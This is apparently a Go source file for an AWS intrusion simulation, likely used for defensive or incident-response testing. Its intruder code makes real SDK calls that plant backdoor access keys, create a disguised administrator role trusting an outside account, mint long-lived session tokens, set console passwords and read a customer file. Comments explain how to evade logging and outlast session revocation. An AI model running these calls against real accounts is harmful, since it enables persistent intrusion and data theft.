package simulate

import (
	"fmt"
	"math/rand/v2"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	ststypes "github.com/aws/aws-sdk-go-v2/service/sts/types"
)

// outsideAccount is the intruder's own account.
const outsideAccount = "999999999999"

// Widen gives the intruder further ways back in, drawn from a seed of their own: a key on somebody else's user, a role that
// trusts the intruder's account, session tokens, a console password, a boundary on the leaked user. The demo's story goes
// without.
func (i *Intruder) Widen(seed int64) {
	rng := rand.New(rand.NewPCG(uint64(seed), 1313))
	for _, extra := range []func(){i.keyOnAnother, i.trustOutsider, i.takeSessionToken, i.setPassword, i.boundItself} {
		if rng.IntN(2) == 0 {
			i.extras = append(i.extras, extra)
		}
	}
	rng.Shuffle(len(i.extras), func(a, b int) { i.extras[a], i.extras[b] = i.extras[b], i.extras[a] })
	// Who only reads objects leaves no record in event history.
	i.silent = rng.IntN(4) == 0
	// Who takes a new session of the role at every move may hold one that is younger than the deny on older ones.
	i.greedy = rng.IntN(3) == 0
}

// Resume lets an intruder who went quiet go on with every road there is.
func (i *Intruder) Resume() {
	if !i.quiet {
		return
	}
	i.quiet = false
	i.victim.World.Clock().At(i.victim.World.Clock().Now().Add(i.jitter()), i.persist)
}

func (i *Intruder) keyOnAnother() {
	if i.quiet {
		return
	}
	name := "alice"
	key, err := iam.NewFromConfig(i.cfg(i.roads[0])).CreateAccessKey(i.ctx, &iam.CreateAccessKeyInput{UserName: &name})
	i.told("gives "+name+" a second key", err)
	if err != nil {
		return
	}
	own := road{name: "the second key of " + name, creds: aws.Credentials{
		AccessKeyID: *key.AccessKey.AccessKeyId, SecretAccessKey: *key.AccessKey.SecretAccessKey,
	}}
	i.roads = append(i.roads, own)
	// A key takes seconds to work.
	clock := i.victim.World.Clock()
	clock.At(clock.Now().Add(45*time.Second), func() {
		if !i.quiet {
			i.tokenOf(own)
		}
	})
}

func (i *Intruder) takeSessionToken() {
	if !i.quiet {
		i.tokenOf(i.roads[0])
	}
}

// tokenOf takes a session token, for which STS asks no permission.
func (i *Intruder) tokenOf(r road) {
	out, err := sts.NewFromConfig(i.cfg(r)).GetSessionToken(i.ctx, &sts.GetSessionTokenInput{DurationSeconds: aws.Int32(129600)})
	i.told("takes a session token with "+r.name, err)
	if err == nil {
		i.roads = append(i.roads, road{name: "a session token of " + r.name, creds: sessionOf(out.Credentials)})
	}
}

func sessionOf(c *ststypes.Credentials) aws.Credentials {
	return aws.Credentials{AccessKeyID: *c.AccessKeyId, SecretAccessKey: *c.SecretAccessKey, SessionToken: *c.SessionToken}
}

// trustOutsider makes a role that the intruder's own account may assume at any time.
func (i *Intruder) trustOutsider() {
	if i.quiet {
		return
	}
	name := "AWSSupportAccess2"
	trust := fmt.Sprintf(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::%s:root"},"Action":"sts:AssumeRole"}]}`, outsideAccount)
	client := iam.NewFromConfig(i.cfg(i.roads[0]))
	made, err := client.CreateRole(i.ctx, &iam.CreateRoleInput{RoleName: &name, AssumeRolePolicyDocument: &trust})
	i.told("makes the role "+name+", which trusts another account", err)
	if err != nil {
		return
	}
	_, err = client.AttachRolePolicy(i.ctx, &iam.AttachRolePolicyInput{RoleName: &name, PolicyArn: aws.String("arn:aws:iam::aws:policy/AdministratorAccess")})
	i.told("makes "+name+" an administrator", err)
	outsider := i.victim.World.AddOutsider(outsideAccount, "mallory")
	n := 0
	i.roads = append(i.roads, road{name: "the role " + name, mint: func() (aws.Credentials, error) {
		n++
		out, err := sts.NewFromConfig(i.cfg(road{creds: outsider})).AssumeRole(i.ctx, &sts.AssumeRoleInput{
			RoleArn: made.Role.Arn, RoleSessionName: aws.String(fmt.Sprintf("support-%d", n)),
		})
		if err != nil {
			return aws.Credentials{}, err
		}
		return sessionOf(out.Credentials), nil
	}})
}

func (i *Intruder) setPassword() {
	if i.quiet {
		return
	}
	_, err := iam.NewFromConfig(i.cfg(i.roads[0])).CreateLoginProfile(i.ctx, &iam.CreateLoginProfileInput{
		UserName: &i.victim.User, Password: aws.String("Correct-Horse-9-Battery"),
	})
	i.told("gives "+i.victim.User+" a console password", err)
}

func (i *Intruder) boundItself() {
	if i.quiet {
		return
	}
	_, err := iam.NewFromConfig(i.cfg(i.roads[0])).PutUserPermissionsBoundary(i.ctx, &iam.PutUserPermissionsBoundaryInput{
		UserName: &i.victim.User, PermissionsBoundary: aws.String("arn:aws:iam::aws:policy/AdministratorAccess"),
	})
	i.told("sets a boundary on "+i.victim.User, err)
}

// readOnly is all that a silent intruder does.
func (i *Intruder) readOnly(r road) {
	_, err := s3.NewFromConfig(i.cfg(r)).GetObject(i.ctx, &s3.GetObjectInput{Bucket: &i.victim.Bucket, Key: aws.String("2026/customers-00.csv")})
	i.told("tries "+r.name+": reads a file", err)
}

// laterWork is how long after a verdict of held the intruder goes on trying.
const laterWork = 20 * time.Minute
